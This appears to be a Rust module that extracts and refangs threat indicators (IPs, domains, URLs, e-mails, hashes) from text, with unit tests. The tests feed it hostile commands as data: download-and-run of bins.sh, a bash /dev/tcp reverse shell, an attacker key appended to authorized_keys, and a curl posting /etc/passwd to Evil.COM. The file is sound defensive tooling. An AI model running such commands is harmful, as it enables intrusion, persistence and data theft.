//! Finds indicators in free text. Written for precision: what could as well be a file name or a version is left alone.
//!
//! The text is cut into words at blanks, quotes and shell punctuation. Each word is refanged (`hxxp` → `http`, `[.]` → `.`)
//! and then tried, in this order, as a URL, an e-mail address, and by its parts as address, domain or hash.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use crate::scope;

/// Indicators taken from one text. An attacker could otherwise make one message into a flood.
pub const INDICATORS_MAX: usize = 256;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Type {
    Ipv4,
    Ipv6,
    Domain,
    Url,
    Email,
    Md5,
    Sha1,
    Sha256,
}

impl Type {
    pub fn name(self) -> &'static str {
        match self {
            Type::Ipv4 => "ipv4",
            Type::Ipv6 => "ipv6",
            Type::Domain => "domain",
            Type::Url => "url",
            Type::Email => "email",
            Type::Md5 => "md5",
            Type::Sha1 => "sha1",
            Type::Sha256 => "sha256",
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct Indicator {
    pub kind: Type,
    /// Refanged, and in lower case where case means nothing.
    pub value: String,
    /// As it stood in the text.
    pub as_seen: String,
    pub scope: &'static str,
}

/// How defanged spellings are undone. The longer ones come first.
const DEFANGED: &[(&str, &str)] = &[
    ("[://]", "://"),
    ("[:]//", "://"),
    ("[dot]", "."),
    ("(dot)", "."),
    ("{dot}", "."),
    ("[DOT]", "."),
    ("[at]", "@"),
    ("(at)", "@"),
    ("{at}", "@"),
    ("[.]", "."),
    ("(.)", "."),
    ("{.}", "."),
    ("[.", "."),
    ("[@]", "@"),
    ("[:]", ":"),
    ("[/]", "/"),
    ("hxxp", "http"),
    ("hXXp", "http"),
    ("h**p", "http"),
    ("fxp://", "ftp://"),
];

const SCHEMES: &[&str] = &[
    "http",
    "https",
    "ftp",
    "ftps",
    "sftp",
    "tftp",
    "ssh",
    "ldap",
    "ldaps",
    "rmi",
    "tcp",
    "udp",
    "ws",
    "wss",
    "stratum+tcp",
    "stratum+ssl",
];

/// Top-level domains under which a bare name is believed to be a domain. Those that double as file endings (`sh`, `so`,
/// `py`, `pl`, `rs`, `md`, `zip`, `cc` …) are left out: a name under them counts only inside a URL, an e-mail address or a
/// defanged spelling, where nobody means a file.
const TOP_LEVEL_DOMAINS: &[&str] = &[
    "com", "net", "org", "info", "biz", "edu", "gov", "mil", "int", "xyz", "top", "club", "online", "site", "store",
    "tech", "space", "website", "live", "pro", "vip", "icu", "shop", "app", "dev", "cloud", "link", "click", "pw",
    "tk", "ga", "cf", "gq", "ws", "su", "ru", "cn", "de", "uk", "fr", "nl", "br", "it", "jp", "kr", "in", "us", "ca",
    "au", "es", "se", "ch", "at", "be", "cz", "dk", "fi", "gr", "hu", "ie", "il", "ir", "mx", "no", "nz", "pt", "ro",
    "tr", "tw", "ua", "vn", "za", "eu", "asia", "io", "ai", "me", "tv", "to", "id", "hk", "sg", "th", "my", "ph", "kz",
    "by", "bg", "sk", "lt", "lv", "ee", "onion",
];

/// The indicators of a text, each once, in the order in which they stand.
pub fn indicators(text: &str) -> Vec<Indicator> {
    let mut found: Vec<Indicator> = Vec::new();
    for word in text.split(is_separator).filter(|word| word.len() >= WORD_BYTES_MIN) {
        for indicator in in_word(word) {
            add(&mut found, indicator);
        }
        if found.len() >= INDICATORS_MAX {
            break;
        }
    }
    found
}

/// Nothing shorter than `::1` is an indicator.
const WORD_BYTES_MIN: usize = 3;

/// Adds an indicator unless it is known already.
pub fn add(found: &mut Vec<Indicator>, new: Indicator) {
    let is_known = found.iter().any(|old| old.kind == new.kind && old.value == new.value);
    if !is_known && found.len() < INDICATORS_MAX {
        found.push(new);
    }
}

/// The indicator that a host's name or address is; none when it is neither.
pub fn host(value: &str, as_seen: &str) -> Option<Indicator> {
    address(value, as_seen).or_else(|| {
        is_domain(value).then(|| {
            let value = value.trim_end_matches('.').to_ascii_lowercase();
            Indicator { kind: Type::Domain, scope: scope::of_host(&value), value, as_seen: as_seen.to_string() }
        })
    })
}

/// A hash by its length; none for other lengths, and for runs such as 32 zeros that hold no hash.
pub fn hash(value: &str) -> Option<Indicator> {
    let kind = match value.len() {
        32 => Type::Md5,
        40 => Type::Sha1,
        64 => Type::Sha256,
        _ => return None,
    };
    let is_hash = value.bytes().all(|byte| byte.is_ascii_hexdigit())
        && value.bytes().any(|byte| byte.is_ascii_digit())
        && value.bytes().any(|byte| byte.is_ascii_alphabetic());
    // A file has no place of its own.
    is_hash.then(|| Indicator { kind, value: value.to_ascii_lowercase(), as_seen: value.to_string(), scope: "file" })
}

fn is_separator(character: char) -> bool {
    character.is_whitespace() || matches!(character, '"' | '\'' | '`' | '<' | '>' | '|' | ';' | '\\' | '^')
}

fn in_word(word: &str) -> Vec<Indicator> {
    let mut refanged = word.to_string();
    for (defanged, plain) in DEFANGED {
        if refanged.contains(defanged) {
            refanged = refanged.replace(defanged, plain);
        }
    }
    let was_defanged = refanged != word;
    if let Some(mut found) = in_url(&refanged, word) {
        // A URL can stand in another's query, or behind `url=`; its host is found with the URL itself.
        found.extend(hashes(word));
        return found;
    }
    if let Some(email) = email(&refanged, word) {
        return vec![email];
    }
    let mut found = Vec::new();
    // A whole word first, so that the colons of an IPv6 address are not taken for separators.
    match address(trimmed(&refanged), trimmed(word)) {
        Some(indicator) => found.push(indicator),
        None => found.extend(in_parts(&refanged, word, was_defanged)),
    }
    found.extend(hashes(word));
    found
}

/// `user@1.2.3.4:22`, `/dev/tcp/1.2.3.4/4444`, `A=evil.com/x`: addresses anywhere, domains only where no path has begun.
fn in_parts(refanged: &str, word: &str, was_defanged: bool) -> Vec<Indicator> {
    let mut found = Vec::new();
    let is_end = |character: char| {
        matches!(character, '/' | '=' | ',' | ':' | '@' | '(' | ')' | '[' | ']' | '{' | '}' | '&' | '$')
    };
    let mut in_path = false;
    for piece in refanged.split_inclusive(is_end) {
        let part = piece.trim_end_matches(is_end).trim_end_matches('.');
        let is_possible = !in_path && (was_defanged || has_believable_ending(part));
        let indicator = if is_possible { host(part, part) } else { address(part, part) };
        if let Some(mut indicator) = indicator {
            // A part that stands in the word unchanged was seen so; a defanged one needs the whole word as its witness.
            if !word.contains(part) {
                indicator.as_seen = word.to_string();
            }
            found.push(indicator);
        }
        if found.len() >= INDICATORS_MAX {
            break;
        }
        in_path = piece.ends_with('/') || (in_path && !piece.ends_with('='));
    }
    found
}

/// A URL and its host; none when the word holds no scheme that is known.
fn in_url(refanged: &str, word: &str) -> Option<Vec<Indicator>> {
    let (before, after) = refanged.split_once("://")?;
    let scheme_start = before.rfind(|character: char| !is_of_scheme(character));
    let scheme = match scheme_start {
        Some(at) => before.get(at..)?.trim_start_matches(|character| !is_of_scheme(character)),
        None => before,
    };
    let scheme = scheme.to_ascii_lowercase();
    if !SCHEMES.contains(&scheme.as_str()) {
        return None;
    }
    // What follows a shell's `&&`, or closes a parenthesis that the URL did not open, is not of the URL.
    let after = after.split("&&").next().unwrap_or(after);
    let after = if after.contains('(') { after } else { after.split(')').next().unwrap_or(after) };
    let after = after.trim_end_matches(['.', ',', ':', '&', '}', '!']);
    let authority = after.split(['/', '?', '#']).next().unwrap_or_default();
    let rest = after.get(authority.len()..).unwrap_or_default();
    let server = authority.rsplit('@').next().unwrap_or(authority);
    let name = match server.split_once(']') {
        Some((bracketed, _)) => bracketed.trim_start_matches('['),
        None => server.split(':').next().unwrap_or(server),
    };
    let host = host(name, if word.contains(name) { name } else { word })?;
    let value = format!("{scheme}://{}{rest}", authority.replace(name, &host.value));
    let as_seen = if word.contains(&value) { value.clone() } else { word.to_string() };
    let url = Indicator { kind: Type::Url, value, as_seen, scope: host.scope };
    Some(vec![url, host])
}

fn is_of_scheme(character: char) -> bool {
    character.is_ascii_alphanumeric() || character == '+'
}

fn email(refanged: &str, word: &str) -> Option<Indicator> {
    let candidate = trimmed(refanged).strip_prefix("mailto:").unwrap_or_else(|| trimmed(refanged));
    let (user, domain) = candidate.split_once('@')?;
    let is_user = !user.is_empty()
        && user.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'+' | b'%'));
    if !is_user || !is_domain(domain) {
        return None;
    }
    let domain = domain.to_ascii_lowercase();
    let as_seen = if word.contains(candidate) { candidate } else { trimmed(word) };
    Some(Indicator {
        kind: Type::Email,
        scope: scope::of_host(&domain),
        value: format!("{user}@{domain}"),
        as_seen: as_seen.to_string(),
    })
}

fn address(value: &str, as_seen: &str) -> Option<Indicator> {
    let (kind, address) = if let Ok(address) = value.parse::<Ipv4Addr>() {
        (Type::Ipv4, IpAddr::V4(address))
    } else if let Some(address) = ipv6(value) {
        (Type::Ipv6, IpAddr::V6(address))
    } else {
        return None;
    };
    Some(Indicator {
        kind,
        value: address.to_string(),
        as_seen: as_seen.to_string(),
        scope: scope::of_address(address),
    })
}

/// `a::b` is an address to a parser and a module's name to everyone else, so there has to be a digit and a length.
fn ipv6(value: &str) -> Option<Ipv6Addr> {
    let colons = value.bytes().filter(|byte| *byte == b':').count();
    let has_digit = value.bytes().any(|byte| byte.is_ascii_digit());
    let address = value.parse::<Ipv6Addr>().ok()?;
    (has_digit && colons >= 2 && (colons > 2 || value.starts_with("::") || value.len() >= 6)).then_some(address)
}

/// Well formed as a name with at least two labels and an alphabetic ending.
fn is_domain(name: &str) -> bool {
    const NAME_BYTES_MAX: usize = 253;
    const LABEL_BYTES_MAX: usize = 63;
    let name = name.strip_suffix('.').unwrap_or(name);
    let is_label = |label: &str| {
        (1..=LABEL_BYTES_MAX).contains(&label.len())
            && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
            && !label.starts_with('-')
            && !label.ends_with('-')
    };
    name.len() <= NAME_BYTES_MAX
        && name.split('.').all(is_label)
        && name.rsplit_once('.').is_some_and(|(_, ending)| {
            ending.len() >= 2 && (ending.starts_with("xn--") || ending.bytes().all(|byte| byte.is_ascii_alphabetic()))
        })
}

fn has_believable_ending(name: &str) -> bool {
    let ending = name.rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
    TOP_LEVEL_DOMAINS.contains(&ending.as_str())
}

fn hashes(word: &str) -> impl Iterator<Item = Indicator> {
    word.split(|character: char| !character.is_ascii_alphanumeric()).filter_map(hash)
}

/// Without the punctuation of the sentence that the word stands in.
fn trimmed(word: &str) -> &str {
    word.trim_matches(|character| matches!(character, '[' | ']' | '(' | ')' | '{' | '}' | ',' | '.' | '!' | '?' | '='))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Types and values, as `type value`.
    fn found(text: &str) -> Vec<String> {
        indicators(text).into_iter().map(|indicator| format!("{} {}", indicator.kind.name(), indicator.value)).collect()
    }

    #[test]
    fn commands_of_the_lab_log_give_their_indicators() {
        assert_eq!(
            found("cd /tmp; wget http://127.0.0.1:8099/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -f bins.sh"),
            ["url http://127.0.0.1:8099/bins.sh", "ipv4 127.0.0.1"]
        );
        assert_eq!(found("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), ["ipv4 127.0.0.1"]);
        assert_eq!(found("tftp -g -r arm7 127.0.0.1"), ["ipv4 127.0.0.1"]);
        assert_eq!(
            found(r#"echo "card 4111 1111 1111 1111 mail jane.doe@example.com" > /tmp/n"#),
            ["email jane.doe@example.com"]
        );
        assert_eq!(found(r#"echo "ssh-rsa AAAAB3NzaC1yc2E attacker@lab" >> ~/.ssh/authorized_keys"#), [""; 0]);
    }

    #[test]
    fn defanged_spellings_are_refanged_and_kept_as_seen() {
        for (text, expected) in [
            ("hxxp://evil[.]ru/a.sh", "url http://evil.ru/a.sh"),
            ("hXXps[:]//evil(.)ru/a", "url https://evil.ru/a"),
            ("http[://]evil{dot}ru", "url http://evil.ru"),
            ("1[.]2[.]3[.]4", "ipv4 1.2.3.4"),
            ("1.2.3[.]4:8080", "ipv4 1.2.3.4"),
            ("evil[dot]sh", "domain evil.sh"),
            ("a[at]evil[.]com", "email a@evil.com"),
            ("2001[:]db8[:][:]1", "ipv6 2001:db8::1"),
        ] {
            assert_eq!(found(text)[0], expected, "{text}");
            assert_eq!(indicators(text)[0].as_seen, text);
        }
    }

    #[test]
    fn every_type_is_known() {
        assert_eq!(
            found("curl -d@/etc/passwd https://User@Evil.COM:8443/Path?q=1&b=2 ftp://[2001:db8::7]/x"),
            [
                "url https://User@evil.com:8443/Path?q=1&b=2",
                "domain evil.com",
                "url ftp://[2001:db8::7]/x",
                "ipv6 2001:db8::7"
            ]
        );
        assert_eq!(found("ping 2606:4700::1111, ::1"), ["ipv6 2606:4700::1111", "ipv6 ::1"]);
        assert_eq!(found("nslookup c2.evil.ru. A=evil.top/x"), ["domain c2.evil.ru", "domain evil.top"]);
        assert_eq!(
            found("d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709"),
            ["md5 d41d8cd98f00b204e9800998ecf8427e", "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709"]
        );
        assert_eq!(
            found("scp root@10.0.0.5:/x . && curl http://a.com&&id"),
            ["ipv4 10.0.0.5", "url http://a.com", "domain a.com"]
        );
    }

    #[test]
    fn what_only_looks_like_an_indicator_is_left_alone() {
        for text in [
            "chmod 777 bins.sh libc.so.6 a.py x.pl run.rs README.md a.zip",
            "cat /etc/rc.local /var/www/site.com/index.php",
            "apt install foo=1.2.3 libssh_0.9.6 v1.2.3.4 1.2.3.4.5 256.1.1.1 01.2.3.4",
            "std::sync a::b 12:34:56 aa:bb:cc:dd:ee:ff",
            "00000000000000000000000000000000 AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "a@b user@host @ .com com. ... :// x:// ://a.com foo://a.com",
            "echo 🦀 日本語 café.txt",
            "",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn each_indicator_is_told_once_and_a_flood_is_capped() {
        assert_eq!(found("1.2.3.4 1.2.3.4 1[.]2.3.4"), ["ipv4 1.2.3.4"]);
        let flood: String = (0..2_000).map(|n| format!("10.0.{}.{} ", n / 250, n % 250)).collect();
        assert_eq!(indicators(&flood).len(), INDICATORS_MAX);
        indicators(&"[.]".repeat(6_000));
        indicators(&"http://".repeat(3_000));
    }
}
